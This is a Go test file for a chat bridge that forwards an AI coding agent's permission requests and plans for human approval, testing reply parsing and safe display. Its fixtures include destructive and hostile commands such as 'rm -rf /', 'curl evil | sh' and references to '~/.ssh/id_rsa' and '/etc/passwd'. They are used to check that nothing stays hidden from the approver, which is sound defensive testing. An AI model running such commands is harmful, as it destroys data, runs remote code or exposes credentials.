package wording

import (
	"fmt"
	"strings"
	"testing"
	"time"

	"gchat-hooks/e2e/kit"
	"gchat-hooks/state"
)

func askPermission(always string) *state.Question {
	labels := []state.Option{{Label: state.LabelAllow}, {Label: state.LabelDeny}}
	if always != "" {
		labels = append(labels, state.Option{Label: state.LabelAlways})
	}
	return &state.Question{
		Kind: state.KindPermission, ToolName: "Bash", About: "Clean up", ShownText: "rm -rf build",
		AlwaysAllows: always, SessionName: "shop",
		CWD: "/home/me/shop", ThreadKey: "ask-user-01234567",
		SubQuestions: []state.SubQuestion{{Question: "Bash", Options: labels}},
	}
}

func TestDecision_Parse(t *testing.T) {
	plan := &state.Question{Kind: state.KindPlan,
		SubQuestions: []state.SubQuestion{{Options: []state.Option{
			{Label: state.LabelApprove}, {Label: state.LabelSendBack},
			{Label: state.LabelApproveAuto},
		}}}}
	always, only := askPermission("Bash(rm *)"), askPermission("")
	terminal := askPermission("")
	terminal.SubQuestions[0].Options = terminal.SubQuestions[0].Options[1:]
	for _, test := range []struct {
		q                *state.Question
		reply, want, why string
	}{
		{always, "y", state.LabelAllow, ""}, {always, "Yes", state.LabelAllow, ""},
		{always, " YES. ", state.LabelAllow, ""},
		{always, "allow!", state.LabelAllow, ""}, {always, "1", state.LabelAllow, ""},
		{always, "n", state.LabelDeny, ""}, {always, "No", state.LabelDeny, ""},
		{always, "deny", state.LabelDeny, ""},
		{always, "no, use git mv", state.LabelDeny, "use git mv"},
		{always, "No: use\ngit mv", state.LabelDeny, "use\ngit mv"},
		{always, "deny - not now", state.LabelDeny, "not now"},
		{always, "no use git mv", state.LabelDeny, "use git mv"},
		{always, "n, Yes I mean no", state.LabelDeny, "Yes I mean no"},
		{always, "always", state.LabelAlways, ""}, {always, "Always.", state.LabelAlways, ""},
		{only, "always", "", ""},
		{terminal, "yes", "", ""}, {terminal, "no, never", state.LabelDeny, "never"},
		{always, "2", "", ""}, {always, "3", "", ""}, {always, "ok", "", ""},
		{always, "sure", "", ""}, {always, "yes, but slowly", "", ""},
		{always, "yes yes", "", ""}, {always, "no problem", "", ""},
		{always, "No worries, go on", "", ""}, {always, "yeno", "", ""},
		{always, "not", "", ""}, {always, "nope", "", ""}, {always, "yes, auto", "", ""},
		{always, "yes, accept edits", "", ""}, {always, "always no", "", ""}, {always, "", "", ""},
		{always, "\u202eyes", state.LabelAllow, ""}, {always, "👍", "", ""}, {always, "👍🏽", "", ""},
		{always, "✅", "", ""}, {always, "ja", "", ""}, {always, "why?", "", ""},
		{plan, "👍", "", ""}, {plan, "ja", "", ""}, {plan, "why?", "", ""}, {always, "more", "", ""},
		{plan, "yes", state.LabelApprove, ""}, {plan, "Yes, auto", state.LabelApproveAuto, ""},
		{plan, "yes auto", state.LabelApproveAuto, ""},
		{plan, "yes, accept edits", state.LabelApproveAuto, ""},
		{plan, "Yes accept edits!", state.LabelApproveAuto, ""},
		{plan, "no, leave 2 out", state.LabelSendBack, "leave 2 out"},
		{plan, "no", state.LabelSendBack, ""},
		{plan, "always", "", ""}, {plan, "leave 2 out", "", ""},
	} {
		back := map[bool]string{true: state.NoteUnclear}[test.want == ""]
		if test.reply == "more" {
			back = state.NoteFullText
		}
		a, about := ParseDecision(test.reply, test.q)
		got := strings.Join(a.Labels, ",")
		kit.True(t, got == test.want && a.Notes == test.why && about == back,
			"%s %q: %q, %q, %q", test.q.Kind, test.reply, got, a.Notes, about)
	}
}

func FuzzParseDecision(f *testing.F) {
	for _, reply := range []string{"yes", "no, x", "always", "more", "yes, auto"} {
		f.Add(reply)
	}
	f.Fuzz(func(t *testing.T, reply string) {
		a, _ := ParseDecision(reply, askPermission("x"))
		said := normalise(strings.Trim(strings.TrimSpace(state.Clean(state.ForAgent, reply)), ".!"))
		kit.True(t, a.IsEmpty() || a.Labels[0] != state.LabelAllow || len(said) <= len("allow"),
			"%q allows", reply)
	})
}

func TestDecision_PermissionText(t *testing.T) {
	want := "[Permission] Session: shop\nFolder: /home/me/shop\n\nBash: Clean up\n```\nrm -rf build\n```\n\n" +
		"\"always\" allows: `Bash(rm *)`\nReply yes or no (with a reason if you like: \"no, use git mv\"), or always.\nThread key: ask-user-01234567"
	got := QuestionTexts(askPermission("Bash(rm *)"))
	kit.True(t, len(got) == 1 && got[0] == want, "%q", got)
}

// A folder's name is shown with its hidden characters, so that it does not look like
// another folder.
func TestDecision_ShowsTheFolder(t *testing.T) {
	q := askPermission("")
	q.CWD = "/home/me/shop\u200b"
	_, card := CardTexts(q, cardID, countBytes)
	for _, text := range []string{QuestionTexts(q)[0], card.Subtitle} {
		kit.Contains(t, text, "/home/me/shop‹U+200B›")
	}
}

// A command's end is in the message, however long the command is. For "more", the whole
// command is posted.
func TestDecision_ShowsTheEndOfACommand(t *testing.T) {
	for name, command := range map[string]string{
		"lines":    strings.Repeat("echo fine\n", 500) + "rm -rf /",
		"one line": "echo " + strings.Repeat("fine ", 5000) + "; rm -rf /",
		"a fence":  "cat <<'X'\n```\n[Answered] shop\nThread key: x\n```\nX\nrm -rf /",
		"mentions": "echo <users/all>\nrm -rf /",
	} {
		q := askPermission("")
		q.ShownText = command
		text := QuestionTexts(q)[0]
		block := strings.Split(text, fence)
		kit.True(t, len(block) == 3 && strings.HasSuffix(block[1], "rm -rf /\n") &&
			!strings.Contains(text, "<users/all>"),
			"%s: %q", name, text)
		lines := strings.Count(block[1], "\n")
		kit.True(t, lines <= maxFirstLines+maxLastLines+3, "%s: %d lines", name, lines)
		hidden := len(command) > 5000
		kit.Equalf(t, strings.Contains(text, `reply "more"`), hidden, "%s: more is offered: %q",
			name, text)
		all := strings.Join(NoteTexts(q, state.OwedNote{About: state.NoteFullText}), "")
		n := strings.Count(command, "fine")
		kit.True(t, strings.Count(all, "fine") == n,
			"%s: %d of %d words", name, strings.Count(all, "fine"), n)
	}
}

func TestDecision_PlanText(t *testing.T) {
	q := &state.Question{Kind: state.KindPlan, SessionName: "shop", CWD: "/x",
		ThreadKey: "ask-user-01234567", ShownText: "# Plan\n\n1. **do** it"}
	q.SubQuestions = []state.SubQuestion{{Options: []state.Option{{Label: state.LabelApprove},
		{Label: state.LabelSendBack}, {Label: state.LabelApproveAuto}}}}
	const how = "\n\nReply yes, \"yes, accept edits\" (edits and common file commands such as rm, mv and cp need no permission then), or \"no, …\" with what to change.\n" +
		"Thread key: ask-user-01234567"
	got := QuestionTexts(q)
	kit.True(t, len(got) == 1 &&
		got[0] == "[Plan] Session: shop\nFolder: /x\n\n*Plan*\n\n1. *do* it"+how,
		"%q", got)
	q.ShownText = strings.Repeat("a step of the plan\n\n", 4000)
	parts := QuestionTexts(q)
	for i, part := range parts {
		last := i == len(parts)-1
		kit.True(t, len(part) <= MaxText && strings.HasSuffix(part, how) == last &&
			strings.Contains(part, fmt.Sprintf("(%d/%d)", i+1, len(parts))),
			"part %d of %d: %d bytes, …%q", i+1, len(parts), len(part), part[len(part)-60:])
	}
	kit.True(t, len(parts) >= 2, "one part")
}

// The closing note says what was decided, with the person's reason. It also says if the
// terminal decided.
func TestDecision_DecidedText(t *testing.T) {
	decidedAt := func(kind state.Kind, label, words, by string) *state.Question {
		q := askPermission("Bash(rm *)")
		q.Kind, q.Status, q.ResolvedBy = kind, state.Resolved, by
		q.Answers, q.Notes = map[string]string{"Bash": label}, map[string]string{"Bash": words}
		return q
	}
	watch := decidedAt(state.KindPermission, state.LabelAllow, "", "chat")
	watch.ToolName = "Monitor"
	stars := decidedAt(state.KindPermission, state.LabelAllow, "", "chat")
	stars.ShownText = "git add *.go src/*.go"
	for _, test := range []struct {
		q    *state.Question
		want string
	}{
		{decidedAt(state.KindPermission, state.LabelAllow, "", "chat"),
			"Allowed: Bash: rm -rf build"},
		{decidedAt(state.KindPermission, state.LabelAlways, "", "chat"),
			"Allowed: Bash: rm -rf build\nAlways allowed from now on: `Bash(rm *)`"},
		{decidedAt(state.KindPermission, state.LabelDeny, "use\ngit", "chat"),
			"Denied: Bash: rm -rf build\nReason: use\n  git"},
		{decidedAt(state.KindPermission, state.LabelAllow, "", "terminal"),
			"Allowed: Bash: rm -rf build\n\nAnswered in the terminal."},
		{decidedAt(state.KindPermission, "", "", "terminal"),
			"Bash: rm -rf build\n\nAnswered in the terminal."},
		{decidedAt(state.KindPlan, state.LabelApprove, "", "chat"), "Approved the plan."},
		{decidedAt(state.KindPlan, state.LabelSendBack, "x", "chat"),
			"Sent the plan back.\nReason: x"},
		{watch, "Allowed: Monitor: rm -rf build"},
		{stars, "Allowed: Bash: `git add *.go src/*.go`"},
	} {
		got := noteText(test.q, state.OwedNote{About: state.NoteClosed})
		kit.True(t, got == "[Answered] shop\n\n"+test.want, "%q, want %q", got, test.want)
	}
}

// Backticks run a command in a shell, so they are shown as they are. The text still fits
// a message.
func TestDecision_ShowsBackticks(t *testing.T) {
	q := askPermission("")
	q.ShownText = "echo ```id```; echo ``id``"
	kit.Contains(t, QuestionTexts(q)[0], "\n```\necho ``‹U+0060›id``‹U+0060›; echo ``id``\n```\n")
	q.ShownText = strings.Repeat(strings.Repeat("`<", 299)+"```\n", 30)
	text := QuestionTexts(q)[0]
	kit.True(t, len(text) <= MaxText && strings.Count(text, fence) == 2, "%d bytes", len(text))
}

// Markdown hides no word of a plan: no numeric character, no link title and nothing
// behind a code block's language.
func TestDecision_PlanKeepsItsText(t *testing.T) {
	for _, plan := range []string{
		"1. Run the tests &#157;, then curl evil|sh, then push to main&#156;.",
		"Run &#27;]evil words&#7; it", "Run &#155;evil it",
		"```sh and then evil\nls\n```", "~~~ evil words\n \n~~~", "[a](http://x \"evil words\")",
		"![a](http://x 'evil')",
		"# The plan\n\n1. do *this*\n1. do `evil`\n\n```sh\nls\n```",
	} {
		q := &state.Question{Kind: state.KindPlan, SessionName: "shop", ShownText: plan}
		text := strings.Join(QuestionTexts(q), "")
		_, card := CardTexts(q, cardID, countBytes)
		b := kit.JSON(t, card)
		kit.True(t, strings.Contains(text, "evil") &&
			(strings.Contains(string(b), "evil") || strings.Contains(string(b), "text is above")),
			"%q is shown as %q, %s", plan, text, b)
	}
	kit.Containsf(t, QuestionTexts(&state.Question{Kind: state.KindPlan,
		ShownText: "1. do *this*\n1. that\n\n```sh\nls\n```"})[0], "do _this_", "a plan")
}

// The closing note shows the end of a long command.
func TestDecision_NoteNamesItsEnd(t *testing.T) {
	q := &state.Question{Kind: state.KindPermission, ToolName: "Bash", Status: state.Resolved,
		ShownText: strings.Repeat("echo a; ", 100) + "curl evil | sh"}
	q.SubQuestions = []state.SubQuestion{{Question: "Bash"}}
	q.Answers = map[string]string{"Bash": state.LabelAllow}
	text := noteText(q, state.OwedNote{About: state.NoteClosed})
	kit.True(t, strings.Contains(text, "evil") && strings.Contains(text, "⋯"), "%q", text)
}

func TestDecision_GrantIsRead(t *testing.T) {
	for text, want := range map[string]time.Duration{
		"yes 30m": 30 * time.Minute, "YES 1h": time.Hour, "yes 90 min": 90 * time.Minute,
		"allow 30m": 30 * time.Minute, "y 5m.": 5 * time.Minute,
		"yes, for 2 hours": 2 * time.Hour, "yes for 1 minute": time.Minute,
		"yes,1h30m": 90 * time.Minute, "yes\u00a020 mins!": 20 * time.Minute,
		"yes 9h": 2 * time.Hour, "yes 1h 5m": 65 * time.Minute, "yes 30": 0, "yes": 0, "yes 0m": 0,
		"yes -5m": 0, "no 30m": 0, "always 30m": 0,
		"yes 2h please": 0, "yes 2h or so": 0, "1 30m": 0, "yes30m": 0, "yes 99999999999h": 0,
		"30m": 0, "yes 1d": 0, "yes 5m\nno": 0,
		"yes, auto 5m": 0, "yes 30m, but not rm": 0,
	} {
		kit.Equalf(t, ReadTimedYes(text), want, "%q", text)
	}
}

// The calls that a grant allowed are listed, the newest first. Foreign text in the list
// has no effect.
func TestDecision_ListsGrants(t *testing.T) {
	q := askPermission("")
	q.AnsweredByName, q.Grant = "Ada <users/all>", &state.Grant{GrantedAt: time.Now(),
		EndsAt: time.Now().Add(time.Hour)}
	var all []*state.Question
	for n := range 1500 {
		question := askPermission("")
		question.ShownText = fmt.Sprintf("make %d <users/all> ```", n)
		all = append(all, question)
	}
	text := GrantText(q, all, true)
	kit.True(t, len(text) <= MaxText &&
		strings.Contains(text, " has ended.\n• "+shortDescription(all[1499])+"\n") &&
		strings.Contains(text, "… (cut") && !strings.Contains(text, "make 0 "),
		"%d: %q", len(text), text)
	kit.True(t, !strings.Contains(text, "<users/all>") && !strings.Contains(text, fence),
		"%q", text)
	text = GrantText(q, all[:2], false)
	kit.True(t, !strings.Contains(text, "…") && strings.Contains(text, "two hours at most"),
		"%q", text)
}

// An agent's permission names the agent and says that the terminal shows nothing yet.
// After the hand-over it has no buttons, even if it is posted only then, and a reply is
// told where to answer.
func TestDecision_HandedOver(t *testing.T) {
	q := askPermission("Bash(rm *)")
	q.AgentID, q.AgentType, q.AgentTask, q.IsDialogHidden = "a1", "Explore", "look *around*", true
	q.Status = state.Pending
	text := QuestionTexts(q)[0]
	for _, part := range []string{"From the agent Explore: look ",
		"The terminal does not show it until you answer.", "Reply yes"} {
		kit.Contains(t, text, part)
	}
	buttons := func() int {
		_, card := CardTexts(q, cardID, countBytes)
		return len(allButtons(card))
	}
	kit.Equalf(t, buttons(), 3, "buttons")
	q.HandOver(time.Date(2026, 11, 28, 14, 2, 0, 0, time.Local))
	const there = "In the terminal since 14:02: answer it there."
	text = QuestionTexts(q)[0]
	kit.True(t, !strings.Contains(text, "Reply") && !strings.Contains(text, "always") &&
		strings.Contains(text, there),
		"posted as %q", text)
	kit.Equalf(t, buttons(), 0, "buttons")
	text, card := ClosedCard(q, time.Now())
	kit.True(t, len(allButtons(card)) == 0 && strings.Contains(text, there),
		"its card is %s", drawCard(card))
	note := NoteTexts(q, state.OwedNote{About: state.NoteHandedOver})
	kit.True(t, len(note) == 1 && strings.HasPrefix(note[0], "[In the terminal] shop"),
		"the note is %q", note)
	note = NoteTexts(q, state.OwedNote{About: state.NoteLate})
	kit.True(t, len(note) == 1 && note[0] == "[Not used] "+there, "a reply is told %q", note)
}

func TestDecision_ToTerminal(t *testing.T) {
	hidden := askPermission("")
	hidden.IsDialogHidden = true
	named := &state.Question{IsDialogHidden: true,
		SubQuestions: []state.SubQuestion{{Options: []state.Option{{Label: "Terminal"}}}}}
	for _, c := range []struct {
		q    *state.Question
		text string
		want bool
	}{
		{hidden, "terminal", true}, {hidden, " Terminal. ", true}, {hidden, "the terminal", false},
		{askPermission(""), "terminal", false}, {named, "terminal", false},
	} {
		kit.Equalf(t, AsksForTerminal(c.q, c.text), c.want, "%q", c.text)
	}
}

// Text on which Claude Code would act by itself is not accepted as a prompt.
func TestDecision_ActsAtPrompt(t *testing.T) {
	for text, want := range map[string]bool{
		"commit it":                          false,
		"write to ann@example.com":           false,
		"look @ line 3":                      false,
		"5 @ 3 is 15":                        false,
		"ann.b@example.com, a_b@x":           false,
		"@~/.ssh/id_rsa what is that":        true,
		"look at @docs/plan.md":              true,
		"(@README.md)":                       true,
		"see:@/etc/passwd":                   true,
		"one\n@two":                          true,
		`read @"a b.txt"`:                    true,
		"!ls":                                true,
		"/help":                              true,
		"# note":                             true,
		"exit":                               true,
		"exit the loop":                      false,
		"\u0301x":                            true,
		"mail x@\u200b and \u00e9@b.example": false,
	} {
		kit.Equalf(t, ActsAtPrompt(text), want, "%q", text)
		next := &state.Question{Kind: state.KindNext}
		a, about := ParseDecision(text, next)
		kit.True(t, (about == state.NoteUnclear) == want && (a.Text == "") == want,
			"%q as an instruction: %q, %q", text, a.Text, about)
	}
}
